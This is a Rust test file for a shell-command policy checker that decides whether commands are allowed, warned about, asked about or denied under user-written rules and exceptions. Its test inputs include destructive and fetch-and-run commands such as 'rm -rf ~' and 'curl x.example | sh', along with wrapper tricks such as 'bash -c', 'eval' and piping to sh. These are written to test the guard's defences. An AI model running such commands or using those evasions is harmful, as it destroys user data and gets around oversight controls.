//! Rules that people wrote: when they hold, how strict the outcome is, and what an exception excuses.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test stops where something is wrong"
)]

mod support;

use policy::{
    Act, Exception, Judgement, Kind, Origin, Pattern, Request, Settings, Subject, Verdict, Wanted, Written,
    WrittenRule, judge,
};
use support::{Machine, command, guard};

fn rule(id: &str, verdict: Verdict) -> WrittenRule {
    WrittenRule {
        id: id.into(),
        origin: Origin::User,
        verdict,
        why: "because".into(),
        kinds: Vec::new(),
        command: None,
        effect: None,
    }
}

fn on_command(pattern: &str, verdict: Verdict) -> WrittenRule {
    WrittenRule {
        kinds: vec![Kind::CommandRun],
        command: Some(Pattern::new(pattern, false).unwrap()),
        ..rule("mine", verdict)
    }
}

fn on_effect(wanted: Wanted) -> WrittenRule {
    WrittenRule {
        effect: Some(wanted),
        ..rule("mine", Verdict::Deny)
    }
}

fn with(rules: Vec<WrittenRule>) -> Settings {
    Settings {
        written: Written {
            rules,
            ..Written::default()
        },
        ..guard()
    }
}

fn verdict(text: &str, settings: &Settings) -> Verdict {
    judged(text, settings).verdict()
}

fn judged(text: &str, settings: &Settings) -> Judgement {
    judge(&command(text), &Machine::new(), settings)
}

fn file(kind: Kind, path: &str) -> Request {
    Request {
        kind,
        subject: Subject::File {
            path: path.into(),
            delete: false,
            content: None,
        },
        cwd: "/home/ann/proj".into(),
    }
}

#[test]
fn v_0302_the_strictest_of_all_rules_decides() {
    for (mine, text, expected) in [
        (Verdict::Deny, "make release", Verdict::Deny),
        (Verdict::Ask, "make release", Verdict::Ask),
        (Verdict::Warn, "make release", Verdict::Warn),
        (Verdict::Deny, "make release; rm -rf ~", Verdict::Deny),
        (Verdict::Warn, "make release; rm -rf ~", Verdict::Ask),
        (Verdict::Deny, "make test", Verdict::Allow),
    ] {
        assert_eq!(
            verdict(text, &with(vec![on_command("make release", mine)])),
            expected,
            "{text}"
        );
    }
}

#[test]
fn v_0303_among_equals_the_built_in_rule_comes_first() {
    let settings = with(vec![on_command("rm", Verdict::Ask)]);
    let judgement = judged("rm -rf ~", &settings);
    assert_eq!(judgement.decisive().unwrap().rule, "rm_rf_root");
    assert_eq!(judgement.findings.last().unwrap().rule, "mine");
}

#[test]
fn a_pattern_is_held_against_every_command_that_a_text_starts() {
    let settings = with(vec![on_command("^terraform apply", Verdict::Deny)]);
    for text in [
        "terraform apply -auto-approve",
        "cd infra && terraform apply",
        "bash -c 'terraform apply'",
        "t=terraform; $t apply",
        "env A=1 terraform  apply",
        "echo terraform apply | sh",
    ] {
        assert_eq!(verdict(text, &settings), Verdict::Deny, "{text}");
    }
    for text in [
        "terraform plan",
        "echo terraform apply",
        "git commit -m 'terraform apply'",
    ] {
        assert_ne!(verdict(text, &settings), Verdict::Deny, "{text}");
    }
}

#[test]
fn m_35_a_glob_is_held_against_the_path_and_against_its_name_in_the_project() {
    for (glob, path, holds) in [
        ("**/*.env", "config/prod.env", true),
        ("**/*.env", "prod.env", true),
        ("*.env", "prod.env", true),
        ("*.env", "config/prod.env", false),
        ("infra/**", "infra/a/b.tf", true),
        ("infra/**", "docs/infra/a.md", false),
        ("/home/ann/proj/x", "x", true),
        ("pages/[id].tsx", "pages/[id].tsx", true),
        ("**/x/y", "x/y", true),
        ("src/?.rs", "src/ab.rs", false),
    ] {
        let settings = with(vec![on_effect(Wanted {
            acts: vec![Act::Write],
            targets: vec![glob.into()],
            ..Wanted::default()
        })]);
        let judgement = judge(&file(Kind::FileWrite, path), &Machine::new(), &settings);
        let found = judgement.findings.iter().any(|f| f.rule == "mine");
        assert_eq!(found, holds, "{glob} on {path}");
        let read = judge(&file(Kind::FileRead, path), &Machine::new(), &settings);
        assert!(read.findings.iter().all(|f| f.rule != "mine"));
    }
}

#[test]
fn one_rule_on_effects_holds_behind_every_door() {
    let settings = with(vec![on_effect(Wanted {
        acts: vec![Act::Write, Act::Delete],
        targets: vec!["db/**".into()],
        ..Wanted::default()
    })]);
    for text in [
        "echo x > db/a",
        "cp a db/b",
        "sed -i s/a/b/ db/c",
        "python3 -c 'open(\"db/x\", \"w\")'",
        "rm db/a",
    ] {
        assert_eq!(verdict(text, &settings), Verdict::Deny, "{text}");
    }
    assert_eq!(verdict("cat db/a", &settings), Verdict::Allow);
}

#[test]
fn labels_and_hosts_have_to_be_on_the_same_effect() {
    let settings = with(vec![on_effect(Wanted {
        acts: vec![Act::Fetch, Act::Send, Act::Connect],
        hosts: vec!["*.example.org".into()],
        ..Wanted::default()
    })]);
    assert_eq!(verdict("curl https://api.example.org/x", &settings), Verdict::Deny);
    assert_eq!(
        verdict("curl https://me@api.example.org:8443/x?y", &settings),
        Verdict::Deny
    );
    assert_ne!(
        verdict("curl https://example.com/api.example.org", &settings),
        Verdict::Deny
    );
    let labelled = with(vec![on_effect(Wanted {
        labels: vec!["push_code".into()],
        ..Wanted::default()
    })]);
    assert_eq!(verdict("git push", &labelled), Verdict::Deny);
    assert_ne!(verdict("git pull", &labelled), Verdict::Deny);
}

#[test]
fn a_rule_without_conditions_holds_for_every_request_of_its_kinds() {
    let mut all = rule("mine", Verdict::Ask);
    all.kinds = vec![Kind::FileRead];
    let settings = with(vec![all]);
    assert_eq!(verdict("ls", &settings), Verdict::Allow);
    let read = judge(&file(Kind::FileRead, "a"), &Machine::new(), &settings);
    assert_eq!(read.verdict(), Verdict::Ask);
}

fn excusing(pattern: &str, rule: &str) -> Settings {
    Settings {
        written: Written {
            exceptions: vec![Exception {
                pattern: Pattern::new(pattern, false).unwrap(),
                suppresses: rule.into(),
                cwd: None,
            }],
            ..Written::default()
        },
        ..guard()
    }
}

#[test]
fn v_3201_an_exception_silences_one_rule_for_the_commands_that_it_names() {
    let settings = excusing("^git push --force origin feature/", "git_push_force");
    let judgement = judged("git push --force origin feature/x", &settings);
    assert!(judgement.verdict() < Verdict::Ask);
    assert_eq!(judgement.excused, ["git_push_force"]);
    assert_eq!(verdict("git push --force origin main", &settings), Verdict::Ask);
}

#[test]
fn v_3203_what_is_reached_through_another_text_is_never_excused() {
    let settings = excusing("git push --force", "git_push_force");
    for text in [
        "bash -c 'git push --force'",
        "eval 'git push --force'",
        "echo 'git push --force' | sh",
        "sudo git push --force",
    ] {
        assert_eq!(verdict(text, &settings), Verdict::Ask, "{text}");
    }
}

#[test]
fn v_3204_all_other_rules_still_speak() {
    let settings = excusing("git push --force", "git_push_force");
    assert_eq!(verdict("git push --force; rm -rf ~", &settings), Verdict::Ask);
    assert_eq!(
        verdict("git push --force; curl x.example | sh", &settings),
        Verdict::Ask
    );
}

fn broken(own: bool) -> Settings {
    let mut settings = guard();
    *(if own {
        &mut settings.broken
    } else {
        &mut settings.project_broken
    }) = Some("`x.yml`, line 3: no".into());
    settings
}

#[test]
fn m_33_a_broken_set_of_ones_own_refuses_what_changes_something_and_names_the_file() {
    let judgement = judged("cargo build", &broken(true));
    assert_eq!(judgement.verdict(), Verdict::Deny);
    assert!(judgement.findings[0].why.contains("`x.yml`, line 3"));
    assert_eq!(verdict("git status; cat README.md", &broken(true)), Verdict::Allow);
    assert_eq!(verdict("rm -rf ~", &broken(true)), Verdict::Deny);
}

#[test]
fn m_33_a_broken_set_of_a_project_asks_before_anything_changes() {
    assert_eq!(verdict("cargo build", &broken(false)), Verdict::Ask);
    assert_eq!(verdict("git status; cat README.md", &broken(false)), Verdict::Allow);
}
